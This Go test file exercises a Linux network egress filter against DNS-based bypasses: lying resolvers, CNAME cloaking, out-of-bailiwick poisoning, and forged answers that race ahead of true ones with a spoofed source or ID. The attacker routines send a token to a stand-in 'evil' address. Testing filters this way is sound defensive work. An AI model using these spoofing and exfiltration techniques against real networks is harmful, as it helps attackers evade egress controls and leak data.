//go:build linux

package gauntlet

import (
	"errors"
	"net"
	"net/netip"
	"time"

	"github.com/miekg/dns"
)

// evidenceRows make a name seem to belong to an address.
func evidenceRows() []Row {
	return []Row{
		{
			ID: "names/own-dns", Vector: "a DNS server of the program's choice says that an allowed name has an evil address", Right: "the answers of other servers are no evidence",
			Source: "microsandbox PR #694", Rules: []string{"--allow", "shop.example", "--allow", Evil.String() + ":53"}, Lifted: []string{"--allow", "shop.example", "--allow", Evil.String() + ":53,443"},
			Attack: func(a *Attacker) error {
				targets, err := a.ask("udp", at(Evil, 53), "shop.example", dns.TypeA)
				if err != nil || len(targets) != 1 || targets[0] != Evil {
					return errors.Join(err, errors.New("the server did not lie"))
				}
				return a.tellTLS(at(targets[0], 443), "shop.example")
			},
			Harm: Heard, Record: []string{"dns-query hostname=shop.example server=203.0.113.66:53 verdict=allow", "network-connect verdict=deny dest_ip=203.0.113.66 reason=no-evidence"},
		},
		{
			ID: "names/cname-cloak", Vector: "an allowed name that is an alias of a denied one", Right: "every member of the chain can deny",
			Source: "security.md 2.1", Rules: []string{"--allow", "cloaked.example", "--deny", "*.evil.example"}, Lifted: []string{"--allow", "cloaked.example"},
			Attack: visit("cloaked.example", Other), Harm: Heard,
			Record: []string{"dns-query hostname=cloaked.example verdict=deny reason=rule", "network-connect verdict=deny dest_ip=198.51.100.11"},
		},
		{
			ID: "names/cname-claim", Vector: "the same without a lookup: the claim alone", Right: "weir's own question sees the chain, too",
			Source: "security.md 2.1", Rules: []string{"--allow", "cloaked.example", "--deny", "*.evil.example"}, Lifted: []string{"--allow", "cloaked.example"},
			Attack: func(a *Attacker) error { return a.tellTLS(at(Other, 443), "cloaked.example") }, Harm: Heard,
			Record: []string{"network-connect verdict=deny dest_ip=198.51.100.11 reason=no-evidence"},
		},
		poisoned("additional", "as an additional record", func(m *dns.Msg, rr dns.RR) { m.Extra = append(m.Extra, rr) }),
		poisoned("answer", "in the answer section itself", func(m *dns.Msg, rr dns.RR) { m.Answer = append(m.Answer, rr) }),
		{
			ID: "names/spoofed-source", Vector: "a forged answer from another address overtakes the true one", Right: "only the server that was asked is heard",
			Source: "meow-ios PR #231, RFC 5452", Rules: []string{"--allow", "{name}"},
			Prepare: func(s *Stage) error {
				forger, err := s.World.ListenPacket(netip.AddrPortFrom(Evil, 1053))
				if err != nil {
					return err
				}
				s.Defer(func() { forger.Close() })
				return spoofed(s, func(rw dns.ResponseWriter, forged *dns.Msg) {
					if raw, err := forged.Pack(); err == nil {
						forger.WriteTo(raw, rw.RemoteAddr())
					}
				})
			},
			Attack: believing, Harm: heardAtEvil, Record: []string{"network-connect verdict=allow dest_ip=198.51.100.11"},
		},
		{
			ID: "names/spoofed-id", Vector: "forged answers with a wrong ID, and to another question, overtake the true one", Right: "an answer is to the question that was asked",
			Source: "RFC 5452", Rules: []string{"--allow", "{name}"},
			Prepare: func(s *Stage) error {
				return spoofed(s, func(rw dns.ResponseWriter, forged *dns.Msg) {
					forged.Id++
					rw.WriteMsg(forged)
					forged.Id--
					forged.Question[0].Name = "other.example."
					rw.WriteMsg(forged)
				})
			},
			Attack: believing, Harm: heardAtEvil, Record: []string{"network-connect verdict=allow dest_ip=198.51.100.11"},
		},
	}
}

// poisoned is a row where the answer for one allowed name says something of another.
func poisoned(id, where string, section func(m *dns.Msg, rr dns.RR)) Row {
	return Row{
		ID: "names/poison-" + id, Vector: "an allowed name's answer carries an address for another allowed name, " + where, Right: "only records that the asked name leads to are evidence",
		Source: "RFC 2181 5.4.1, out of bailiwick",
		Rules:  []string{"--allow", "{name}", "--allow", "other.example"}, Lifted: []string{"--allow", "{name}", "--allow", "other.example", "--allow", Evil.String() + ":443"},
		Prepare: func(s *Stage) error {
			name := s.ownName()
			s.World.HandleName(name, func(rw dns.ResponseWriter, q *dns.Msg) {
				m := new(dns.Msg).SetReply(q)
				own, _ := dns.NewRR(name + ". 60 IN A " + Shop.String())
				lie, _ := dns.NewRR("other.example. 60 IN A " + Evil.String())
				m.Answer = append(m.Answer, own)
				section(m, lie)
				rw.WriteMsg(m)
			})
			return nil
		},
		Attack: func(a *Attacker) error {
			a.learn(a.Args["name"])
			return a.tellTLS(at(Evil, 443), "other.example")
		},
		Harm: Heard, Record: []string{"dns-query hostname={name} verdict=allow", "network-connect verdict=deny dest_ip=203.0.113.66 reason=no-evidence sni=other.example"},
	}
}

// spoofed gives the run a name whose true address is that of other.example, and has forge answer first, with that of
// evil.example.
func spoofed(s *Stage, forge func(rw dns.ResponseWriter, forged *dns.Msg)) error {
	name := s.ownName()
	truth := s.World.fixed(name + ". 60 IN A " + Other.String())
	s.World.HandleName(name, func(rw dns.ResponseWriter, q *dns.Msg) {
		forged := new(dns.Msg).SetReply(q.Copy())
		lie, _ := dns.NewRR(name + ". 60 IN A " + Evil.String())
		forged.Answer = append(forged.Answer, lie)
		forge(rw, forged)
		time.Sleep(30 * time.Millisecond)
		truth(rw, q)
	})
	return nil
}

// heardAtEvil is the Harm of rows that say the token to whoever an answer names.
func heardAtEvil(s *Stage) bool { return s.World.HeardAt(Evil, s.Token) }

// believing asks like a program that believes the first answer that comes, from wherever, and goes where it says.
func believing(a *Attacker) error {
	conf, err := dns.ClientConfigFromFile("/etc/resolv.conf")
	if err != nil {
		return err
	}
	pc, err := net.ListenPacket("udp4", ":0")
	if err != nil {
		return err
	}
	defer pc.Close()
	q := new(dns.Msg).SetQuestion(dns.Fqdn(a.Args["name"]), dns.TypeA)
	raw, err := q.Pack()
	if err != nil {
		return err
	}
	to := net.UDPAddrFromAddrPort(netip.MustParseAddrPort(net.JoinHostPort(conf.Servers[0], "53")))
	if _, err := pc.WriteTo(raw, to); err != nil {
		return err
	}
	pc.SetReadDeadline(time.Now().Add(patience))
	b := make([]byte, 4096)
	n, _, err := pc.ReadFrom(b)
	if err != nil {
		return err
	}
	r := new(dns.Msg)
	if err := r.Unpack(b[:n]); err != nil || len(r.Answer) == 0 {
		return errors.Join(err, errors.New("no address in the answer"))
	}
	address, _ := netip.AddrFromSlice(r.Answer[0].(*dns.A).A.To4())
	return a.request(address, a.Args["name"])
}

// sendTo says the token in one datagram without a connect.
func (a *Attacker) sendTo(address string) error {
	pc, err := net.ListenPacket("udp4", ":0")
	if err != nil {
		return err
	}
	defer pc.Close()
	if _, err := pc.WriteTo([]byte(a.Token), net.UDPAddrFromAddrPort(netip.MustParseAddrPort(address))); err != nil {
		return err
	}
	pc.SetReadDeadline(time.Now().Add(moment))
	_, _, err = pc.ReadFrom(make([]byte, 64))
	return err
}
